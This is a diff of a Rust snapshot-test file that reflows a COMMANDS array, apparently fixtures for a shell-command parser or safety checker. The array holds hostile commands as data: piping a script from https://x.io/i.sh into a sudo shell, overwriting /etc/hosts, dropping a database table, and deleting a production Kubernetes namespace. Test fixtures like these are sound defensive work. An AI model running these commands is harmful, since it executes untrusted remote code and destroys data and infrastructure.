@@ -25,13 +25,8 @@ fn snapshot(name: &str, actual: &str) {
 }
 
 const COMMANDS: &[&str] = &[
-    "ls -la && git status",
-    "sudo bash -c \"curl -s https://x.io/i.sh | sh\"",
-    "cd /etc && echo x > hosts",
-    "git commit -m 'rm -rf / and drop table users'",
-    "echo 'DROP TABLE users;' | psql -d app",
-    "FOO=$(kubectl delete ns prod) true",
-    "echo 'unterminated",
+    "ls -la && git status", "sudo bash -c \"curl -s https://x.io/i.sh | sh\"", "cd /etc && echo x > hosts", "git commit -m 'rm -rf / and drop table users'",
+    "echo 'DROP TABLE users;' | psql -d app", "FOO=$(kubectl delete ns prod) true", "echo 'unterminated",
 ];
 
 #[test]
